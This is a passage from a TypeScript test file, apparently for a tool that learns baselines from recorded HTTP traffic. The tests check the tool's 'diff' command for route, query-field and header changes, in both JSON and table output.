    return [{ ...each, headers, path: (each.path as string).replace('page=', 'sort=name&page=n') }]
  })
  await judged(t, '--learn', writeRecording(dir, 'after.ndjson', changed), '--detect', detect, '--save-baseline', after)
  const { code, stdout } = await run('diff', before, after, '--format', 'json')
  t.equal(code, 0)
  const diff = JSON.parse(stdout)
  t.equal(diff.sameKey, false)
  t.same(diff.routes.appeared, ['GET /news'])
  t.same(diff.routes.vanished, ['GET /'])
  const items = diff.routes.changed.find((change: { route: string }) => change.route === 'GET /items')
  t.same(items.fields.map(({ field, change }: { field: string, change: string }) => [field, change]), [['query.page', 'changed'], ['query.sort', 'appeared']])
  t.ok(items.fields[0].ingredients.some(({ ingredient, before, after }: { ingredient: string, before: string, after: string }) => ingredient === 'characters' && before === 'digits' && after === 'digits, lower-case letters'))
  t.same(items.requiredHeaders, { appeared: ['x-tenant'], vanished: [] })
  t.ok(diff.headers.some(({ field, change }: { field: string, change: string }) => field === 'header.x-tenant' && change === 'appeared'))
  const table = await run('diff', before, after)
  for (const part of ['+  GET /news', '-  GET /\n', '~  GET /items', 'query.sort', 'header.x-tenant', 'different keys']) t.match(table.stdout, part)
  t.match((await run('diff', before, before)).stdout, 'no difference')
  const { code: wrong, stderr } = await run('diff', before, join(dir, 'one.ndjson'))
  t.equal(wrong, 2)
  t.match(stderr, 'not a baseline')
})

test('diff tells known values one by one where both baselines bear one key', async (t) => {
  const dir = t.testdir()
  const before = join(dir, 'before.json')
  const after = join(dir, 'after.json')
  const detect = writeRecording(dir, 'one.ndjson', ordinary(1))
  await judged(t, '--learn', writeRecording(dir, 'a.ndjson', ordinary(480)), '--detect', detect, '--save-baseline', before)
  const more = ordinary(480, 480).map((each): Recorded => each.method === 'POST' ? { ...each, body: `${each.body as string}0` } : each)
  await judged(t, '--baseline', before, '--learn', writeRecording(dir, 'b.ndjson', more), '--detect', detect, '--save-baseline', after)
  const diff = JSON.parse((await run('diff', before, after, '--format', 'json')).stdout)
  t.equal(diff.sameKey, true)
  const orders = diff.routes.changed.find((change: { route: string }) => change.route === 'POST /orders')
  const quantity = orders.fields.find(({ field }: { field: string }) => field === 'form.quantity')
  t.ok(quantity.ingredients.every((each: { vanished?: number }) => each.vanished === undefined || each.vanished >= 0))
  t.equal(typeof quantity.ingredients.find((each: { ingredient: string }) => each.ingredient === 'values').appeared, 'number')
})
